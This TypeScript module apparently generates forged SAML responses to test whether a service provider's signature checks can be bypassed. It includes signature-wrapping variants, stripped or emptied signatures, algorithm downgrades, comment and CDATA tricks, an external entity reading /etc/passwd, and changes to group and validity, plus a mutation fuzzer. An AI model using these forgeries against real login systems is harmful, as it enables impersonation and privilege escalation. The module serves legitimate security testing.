/** The parts of a response whose assertion is signed. */
interface Parts {
  xml: string;
  assertion: string;
  signature: string;
  /** The same assertion for another person, without a signature. */
  evil: string;
}

const between = (text: string, from: RegExp, to: string): string => {
  const start = text.search(from);
  return start === -1 ? '' : text.slice(start, text.indexOf(to, start) + to.length);
};

function partsOf(xml: string, victim: string, attacker: string): Parts {
  const assertion = between(xml, /<saml:Assertion[ >]/, '</saml:Assertion>');
  const signature = between(assertion, /<ds:Signature[ >]/, '</ds:Signature>');
  const evil = assertion
    .replace(signature, '')
    .replaceAll(victim, attacker)
    .replace(/ ID="[^"]+"/, ' ID="_evil"');
  return { xml, assertion, signature, evil };
}

type Forgery = (parts: Parts) => string;

const end = '</samlp:Response>';
const inResponse = ({ xml, assertion }: Parts, replacement: string) => xml.replace(assertion, replacement);
const inSignature = ({ xml, signature }: Parts, change: (text: string) => string) =>
  xml.replace(signature, change(signature));
const wrapIn = (name: string, content: string) => `<${name}>${content}</${name}>`;
const algorithm =
  (of: string, to: string): Forgery =>
  (parts) =>
    inSignature(parts, (text) => text.replace(new RegExp(`(${of}[^>]*Algorithm=")[^"]+`), `$1${to}`));
const sameId = ({ assertion }: Parts) => / ID="([^"]+)"/.exec(assertion)?.[1] ?? '';
const evilWithId = (parts: Parts) => parts.evil.replace('_evil', sameId(parts));
const evilAround = (parts: Parts, inner: string) => parts.evil.replace('</saml:Issuer>', `</saml:Issuer>${inner}`);

/** Responses that a careless reader accepts for another person, each made from a good one. */
export const FORGERIES: Record<string, Forgery> = {
  // The eight ways to wrap a signature of "On Breaking SAML" (USENIX Security 2012), adapted to a signed assertion.
  'evil assertion before': (parts) => inResponse(parts, parts.evil + parts.assertion),
  'evil assertion after': (parts) => inResponse(parts, parts.assertion + parts.evil),
  'original inside of evil': (parts) => inResponse(parts, evilAround(parts, parts.assertion)),
  'original in the signature of evil': (parts) =>
    inResponse(
      parts,
      evilAround(
        parts,
        parts.signature.replace(
          '</ds:Signature>',
          `${wrapIn('ds:Object', parts.assertion.replace(parts.signature, ''))}</ds:Signature>`,
        ),
      ),
    ),
  'original in an extension': (parts) => inResponse(parts, wrapIn('samlp:Extensions', parts.assertion) + parts.evil),
  'signature moved to evil': (parts) => inResponse(parts, evilAround(parts, parts.signature)),
  'signature moved to evil, original after it': (parts) =>
    inResponse(parts, evilAround(parts, parts.signature) + parts.assertion.replace(parts.signature, '')),
  'evil with the id of the original': (parts) => inResponse(parts, evilWithId(parts) + parts.assertion),
  'evil with the id inside of the original': (parts) =>
    inResponse(parts, parts.assertion.replace('</saml:Assertion>', `${evilWithId(parts)}</saml:Assertion>`)),
  'evil response around the original': (parts) => parts.xml.replace(end, `${parts.xml}${end}`),
  'two roots': (parts) => parts.xml + parts.xml.replace(parts.assertion, parts.evil),
  'evil before the root': (parts) => parts.evil + parts.xml,
  // What the signature says.
  'no signature': (parts) => inResponse(parts, parts.assertion.replace(parts.signature, '')),
  'no signature, evil': (parts) => inResponse(parts, parts.evil),
  'empty signature': (parts) =>
    inSignature(parts, () => '<ds:Signature xmlns:ds="http://www.w3.org/2000/09/xmldsig#"/>'),
  'empty reference': (parts) => inSignature(parts, (text) => text.replace(/URI="#[^"]+"/, 'URI=""')),
  'reference without URI': (parts) => inSignature(parts, (text) => text.replace(/ URI="#[^"]+"/, '')),
  'reference to the response': (parts) =>
    inSignature(parts, (text) => text.replace(/URI="#[^"]+"/, `URI="#${/ ID="([^"]+)"/.exec(parts.xml)?.[1]}"`)),
  'no reference': (parts) =>
    inSignature(parts, (text) => text.replace(between(text, /<ds:Reference/, '</ds:Reference>'), '')),
  'two references': (parts) =>
    inSignature(parts, (text) =>
      text.replace('</ds:SignedInfo>', `${between(text, /<ds:Reference/, '</ds:Reference>')}</ds:SignedInfo>`),
    ),
  'two signed infos': (parts) =>
    inSignature(parts, (text) =>
      text.replace('</ds:SignedInfo>', `</ds:SignedInfo>${between(text, /<ds:SignedInfo/, '</ds:SignedInfo>')}`),
    ),
  'two signatures': (parts) => inSignature(parts, (text) => text + text),
  'digest with a comment': (parts) =>
    inSignature(parts, (text) => text.replace('<ds:DigestValue>', '<ds:DigestValue><!--x-->')),
  'digest replaced': (parts) =>
    inSignature(parts, (text) => text.replace(/<ds:DigestValue>[^<]+/, `<ds:DigestValue>${'A'.repeat(43)}=`)),
  'empty digest': (parts) => inSignature(parts, (text) => text.replace(/<ds:DigestValue>[^<]+/, '<ds:DigestValue>')),
  'empty signature value': (parts) =>
    inSignature(parts, (text) => text.replace(/<ds:SignatureValue>[^<]+/, '<ds:SignatureValue>')),
  // Algorithms.
  'HMAC with the certificate': algorithm('SignatureMethod', 'http://www.w3.org/2000/09/xmldsig#hmac-sha1'),
  'HMAC SHA-256': algorithm('SignatureMethod', 'http://www.w3.org/2001/04/xmldsig-more#hmac-sha256'),
  'RSA SHA-1': algorithm('SignatureMethod', 'http://www.w3.org/2000/09/xmldsig#rsa-sha1'),
  'RSA MD5': algorithm('SignatureMethod', 'http://www.w3.org/2001/04/xmldsig-more#rsa-md5'),
  'no algorithm': algorithm('SignatureMethod', ''),
  'SHA-1 digest': algorithm('DigestMethod', 'http://www.w3.org/2000/09/xmldsig#sha1'),
  'inclusive canonicalization': algorithm('CanonicalizationMethod', 'http://www.w3.org/TR/2001/REC-xml-c14n-20010315'),
  'canonicalization with comments': algorithm(
    'CanonicalizationMethod',
    'http://www.w3.org/2001/10/xml-exc-c14n#WithComments',
  ),
  'XSLT transform': algorithm('Transform', 'http://www.w3.org/TR/1999/REC-xslt-19991116'),
  'XPath transform': algorithm('Transform', 'http://www.w3.org/TR/1999/REC-xpath-19991116'),
  'base64 transform': algorithm('Transform', 'http://www.w3.org/2000/09/xmldsig#base64'),
  // Text tricks.
  'comment in the subject': ({ xml }) => xml.replace(/(<saml:NameID[^>]*>)(.)/, '$1$2<!---->'),
  'comment in the address': ({ xml }) => xml.replace('@acme', '<!--x-->@acme'),
  'CDATA in the address': ({ xml }) => xml.replace('@acme', '<![CDATA[@]]>acme'),
  'processing instruction': ({ xml }) => xml.replace('@acme', '<?x y?>@acme'),
  'document type': ({ xml }) => `<!DOCTYPE r [<!ENTITY e "x">]>${xml}`,
  'external entity': ({ xml }) => `<!DOCTYPE r SYSTEM "file:///etc/passwd">${xml}`,
  'unknown entity': ({ xml }) => xml.replace('@acme', '&e;@acme'),
  'foreign assertion': (parts) =>
    inResponse(
      parts,
      parts.evil.replaceAll('saml:Assertion', 'x:Assertion').replace('<x:Assertion', '<x:Assertion xmlns:x="urn:x"') +
        parts.assertion,
    ),
  'foreign signature': (parts) =>
    inSignature(parts, (text) => text.replace('http://www.w3.org/2000/09/xmldsig#"', 'urn:x"')),
  'another subject': ({ xml }) => xml.replace(/(<saml:NameID[^>]*>)[^<]+/, '$1attacker'),
  'another address': ({ xml }) => xml.replace(/[\w.]+@acme/, 'attacker@acme'),
  'another group': ({ xml }) => xml.replace('>staff<', '>admins<'),
  'longer validity': ({ xml }) => xml.replaceAll(/NotOnOrAfter="[^"]+"/g, 'NotOnOrAfter="2999-01-01T00:00:00Z"'),
  'no conditions': ({ xml }) => xml.replace(between(xml, /<saml:Conditions/, '</saml:Conditions>'), ''),
  'encrypted assertion': (parts) => inResponse(parts, wrapIn('saml:EncryptedAssertion', parts.evil)),
  'empty document': () => '',
  'UTF-16': ({ xml }) => Buffer.from(`\ufeff${xml}`, 'utf16le').toString('latin1'),
};

/** Forges a response about `victim` to be about `attacker`. */
export const forge = (name: string, xml: string, victim: string, attacker: string): string =>
  FORGERIES[name]?.(partsOf(xml, victim, attacker)) ?? '';

const JUNK = [
  '<!---->',
  '<x/>',
  '&#0;',
  '&amp;',
  '\u0000',
  ' ',
  '"',
  "'",
  '>',
  '<',
  '/',
  'ID="x"',
  '</saml:Assertion>',
  'ds:',
  ']]>',
];

/** Changes a few places of a text: deletes, repeats, swaps or inserts. */
export function mutate(text: string, random: () => number): string {
  let result = text;
  const at = () => Math.floor(random() * (result.length + 1));
  for (let changes = 1 + Math.floor(random() * 3); changes > 0; changes--) {
    const [from, to] = [at(), at()].sort((a, b) => a - b) as [number, number];
    const short = Math.min(to, from + Math.floor(random() * 200));
    const kind = Math.floor(random() * 4);
    if (kind === 0) result = result.slice(0, from) + result.slice(short);
    if (kind === 1) result = result.slice(0, to) + result.slice(from, short) + result.slice(to);
    if (kind === 2)
      result = result.slice(0, from) + (JUNK[Math.floor(random() * JUNK.length)] ?? '') + result.slice(from);
    if (kind === 3 && from < result.length) {
      const code = result.charCodeAt(from) ^ (1 << Math.floor(random() * 6));
      result = result.slice(0, from) + String.fromCharCode(code) + result.slice(from + 1);
    }
  }
  return result;
}
